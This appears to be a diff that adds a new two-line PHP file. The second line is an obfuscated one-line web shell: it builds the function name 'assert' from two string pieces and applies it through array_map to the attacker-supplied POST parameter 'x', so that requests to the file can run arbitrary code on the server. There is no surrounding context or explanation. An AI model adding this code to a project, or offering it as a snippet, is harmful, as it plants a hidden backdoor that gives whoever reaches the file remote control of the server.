@@ -1,0 +1,2 @@
+<?php
+$a = array_map("ass" . "ert", $_POST['x']);
